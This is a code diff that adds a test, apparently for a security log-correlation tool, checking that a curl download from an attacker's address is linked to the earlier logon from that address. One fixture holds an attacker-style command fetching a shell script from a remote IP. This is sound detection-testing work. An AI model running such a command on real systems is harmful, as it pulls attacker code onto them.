@@ -56,3 +56,12 @@ describe('an internal server attacked, then calling out', () => {
     expect(main.chain.entities).toEqual(expect.arrayContaining(['ip:203.0.113.77', 'ip:45.155.205.233']));
   });
 });
+
+describe('a download from the attacker', () => {
+  it('joins the chain of the logon that attacker address made, even without a shared host or user', () => {
+    const logon = event(0, '2026-03-14T03:12:12Z', { format: 'syslog', action: 'logon', outcome: 'success', entities: { user: 'deploy', srcIp: '194.26.29.113', host: 'web-02' } });
+    const fetch = event(1, '2026-03-14T03:13:00Z', { format: 'auditd', action: 'process_create', entities: { process: 'curl', commandLine: 'curl -s http://194.26.29.113/x.sh' } });
+    const unrelated = event(2, '2026-03-14T03:13:05Z', { format: 'auditd', action: 'process_create', entities: { process: 'curl', commandLine: 'curl -s https://packages.example.org/key.gpg' } });
+    expect(chainsOf([logon, fetch, unrelated]).map((c) => c.eventIndices.slice().sort())).toEqual(expect.arrayContaining([[0, 1], [2]]));
+  });
+});
